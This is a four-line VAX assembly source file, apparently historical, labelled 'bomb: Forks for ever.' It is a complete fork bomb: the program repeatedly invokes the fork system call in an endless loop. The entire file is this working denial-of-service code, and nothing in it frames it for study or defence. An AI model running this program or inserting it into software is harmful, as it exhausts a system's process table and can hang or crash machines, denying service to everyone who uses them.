# bomb: Forks for ever.
.word 0
fork: chmk $2
brb fork
